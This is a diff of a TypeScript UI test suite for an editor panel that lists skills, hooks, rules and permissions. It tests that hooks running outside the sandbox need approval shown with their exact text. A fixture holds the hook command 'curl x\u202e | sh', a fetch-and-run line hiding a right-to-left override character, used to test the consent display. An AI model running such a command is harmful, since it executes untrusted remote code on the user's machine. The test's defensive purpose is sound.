@@ -1,7 +1,7 @@
 /** Tools and Rules: rows, approvals, tools with switches, keys, and pictures of the page. */
 import assert from "node:assert/strict";
 import type { McpLists, McpServerRow } from "../../src/shared/mcp";
-import type { PanelResult } from "../../src/shared/panelProtocol";
+import type { ToolSection } from "../../src/shared/panelProtocol";
 import { pictures } from "./look";
 import { openPanel, type PanelPage, panelTest } from "./panel";
 import { fixed } from "./scenes";
@@ -57,68 +57,40 @@ const question = {
   words: ["Hooks run as you, outside the sandbox, without asking. If they change, you are asked again."],
   exact: '{\n  "Stop": "curl x\u202e | sh"\n}',
 };
-const tools: PanelResult<"tools"> = {
+const part = (name: ToolSection["name"], ...rows: ToolSection["rows"]): ToolSection => ({ name, rows, none: "" });
+const path = ".strata/skills/release/SKILL.md";
+const useless = { name: "x.json", icon: "error" };
+const tools = {
   sections: [
-    {
-      ...{ name: "skills", none: "" },
-      rows: [
-        {
-          ...{
-            name: "/release",
-            state: "Builds a release and writes its notes",
-            from: ".strata/skills/release/SKILL.md",
-          },
-          ...{ path: ".strata/skills/release/SKILL.md", warnings: ["Its name differs from its folder's."] },
-        },
-        { name: "/review [what]", state: "Reviews the open changes", from: ".github/prompts/review.prompt.md" },
-      ],
-    },
-    {
-      ...{ name: "hooks", none: "" },
-      rows: [
-        {
-          ...{
-            name: ".claude/settings.json",
-            icon: "question",
-            state: "needs approval",
-            from: "1 hook",
-            lines: ["Stop: curl x | sh"],
-          },
-          approval: { key: "k1", question },
-        },
-        {
-          ...{
-            name: ".strata/hooks.json",
-            icon: "pass-filled",
-            state: "runs",
-            from: "2 hooks, in the sandbox",
-            approval: { key: "k2" },
-          },
-          lines: ["PreToolUse Bash: guard.sh", "Stop: done.sh"],
-        },
-        ...["One is no object.", "Two is no object."].map(why => ({
-          name: "x.json",
-          icon: "error",
-          warnings: [why, why],
-        })),
-      ],
-    },
-    {
-      ...{ name: "rules", none: "" },
-      rows: [
-        { name: "AGENTS.md", from: "This workspace", path: "AGENTS.md" },
-        { name: "No rules of this workspace", detail: "Strata reads CODE_LAW.md and Agent.md.", path: "" },
-      ],
-    },
-    {
-      ...{ name: "permissions", none: "" },
-      rows: [
-        { name: "Mode: Ask first", detail: "Reads without asking. Asks before every edit and every command." },
-        { name: "Sandbox: on (bubblewrap)" },
-        { name: "Bash(git push *)", state: "Never runs (deny)", from: "settings" },
-        { name: "Bash(npm test *)", state: "Runs without asking (allow)", from: "workspace: .vscode/settings.json" },
-      ],
-    },
+    part(
+      "skills",
+      { name: "/release", state: "Builds a release and writes its notes", from: path, path, warnings: ["It is odd."] },
+      { name: "/review [what]", state: "Reviews the open changes", from: ".github/prompts/review.prompt.md" },
+    ),
+    part(
+      "hooks",
+      {
+        ...{ name: ".claude/settings.json", icon: "question", state: "needs approval", from: "1 hook" },
+        approval: { key: "k1", question },
+      },
+      {
+        ...{ name: ".strata/hooks.json", icon: "pass-filled", state: "runs", from: "2 hooks, in the sandbox" },
+        ...{ lines: ["PreToolUse Bash: guard.sh", "Stop: done.sh"], approval: { key: "k2" } },
+      },
+      { ...useless, warnings: ["One is no object.", "One is no object."] },
+      { ...useless, warnings: ["Two is no object."] },
+    ),
+    part(
+      "rules",
+      { name: "AGENTS.md", from: "This workspace", path: "AGENTS.md" },
+      { name: "No rules of this workspace", detail: "Strata reads CODE_LAW.md and Agent.md.", path: "" },
+    ),
+    part(
+      "permissions",
+      { name: "Mode: Ask first", detail: "Reads without asking. Asks before every edit and every command." },
+      { name: "Bash(git push *)", state: "Never runs (deny)", from: "settings" },
+      { name: "Bash(npm test *)", state: "Runs without asking (allow)", from: "workspace: .vscode/settings.json" },
+    ),
   ],
 };
 
@@ -174,26 +146,27 @@ describe("panel: tools and rules", () => {
   });
 
   panelTest("hooks are approved under the whole of their text, which does not change under the pointer", async () => {
-    const [skills, hooks, ...others] = tools.sections as [(typeof tools.sections)[0], (typeof tools.sections)[0]];
-    const [first, ...rows] = hooks.rows as [(typeof hooks.rows)[0]];
-    const changed = { ...first, approval: { key: "k3", question: { ...question, exact: "other" } } };
-    const later = { sections: [skills, { ...hooks, rows: [changed, ...rows] }, ...others] };
-    const panel = await openPanel({ ...options, results: { ...options.results, tools: [tools, tools, later] } });
+    const approval = { key: "k3", question: { ...question, exact: "other" } };
+    const later = { sections: [part("hooks", { name: ".claude/settings.json", from: "1 hook", approval })] };
+    const panel = await openPanel({
+      ...options,
+      results: { ...options.results, tools: [tools, tools, tools, tools, later] },
+    });
     const { page, button, waitForRequest, send } = panel;
+    await menu(panel, ".strata/hooks.json", "Revoke");
+    assert.deepEqual(await waitForRequest("approveHooks"), { key: "k2", yes: false });
+    assert.equal(await page.getByText("One is no object.").count(), 1);
     await rowOf(panel, /^\.claude/).click();
     const consent = page.getByRole("region", { name: "Run the hooks in .claude/settings.json?" });
     assert.match(await consent.innerText(), /as you, outside the sandbox[\s\S]*"curl x\\u\{202e\} \| sh"/);
     await button("Approve").click();
-    assert.deepEqual(await waitForRequest("approveHooks"), { key: "k1", yes: true });
+    assert.deepEqual(await waitForRequest("approveHooks", 1), { key: "k1", yes: true });
     await send({ type: "mcpChanged" });
     await button("Show the new text").waitFor();
     assert.equal(await button("Approve").count(), 0);
     await button("Show the new text").click();
     await button("Approve").click();
-    assert.deepEqual(await waitForRequest("approveHooks", 1), { key: "k3", yes: true });
-    await menu(panel, ".strata/hooks.json", "Revoke");
-    assert.deepEqual(await waitForRequest("approveHooks", 2), { key: "k2", yes: false });
-    assert.equal(await page.getByText("Two is no object.").count(), 1);
+    assert.deepEqual(await waitForRequest("approveHooks", 2), { key: "k3", yes: true });
   });
 
   panelTest("rules files open, one is created, a command is tried; a command leads to its part", async () => {
@@ -276,22 +249,15 @@ describe("panel: tools and rules", () => {
   });
 
   panelTest("a list of thousands is not drawn unasked; nothing configured says where to begin", async () => {
-    const many = Array.from({ length: 5_000 }, (_, at) => ({
-      name: `files:t${at}`,
-      description: "",
-      tokens: 40,
-      off: false,
-    }));
+    const one = { description: "", tokens: 40, off: false };
+    const many = Array.from({ length: 5_000 }, (_, at) => ({ ...one, name: `files:t${at}` }));
     const results = { ...options.results, mcpLists: { lists: { ...lists, tools: many } } };
     const panel = await openPanel({ ...options, results });
     await show(panel);
     await rowOf(panel, /^files/).click();
     await rowOf(panel, /^and 4,902 more/).waitFor();
     assert.equal(await panel.page.getByRole("switch", { name: /^t\d/ }).count(), 100);
-    const empty = await openPanel({
-      name: "tools",
-      results: { mcpServers: { servers: [], problems: [] } },
-    });
+    const empty = await openPanel({ name: "tools", results: { mcpServers: { servers: [], problems: [] } } });
     await empty.button("Open .vscode/mcp.json").click();
     await empty.waitForRequest("mcpConfigure");
   });
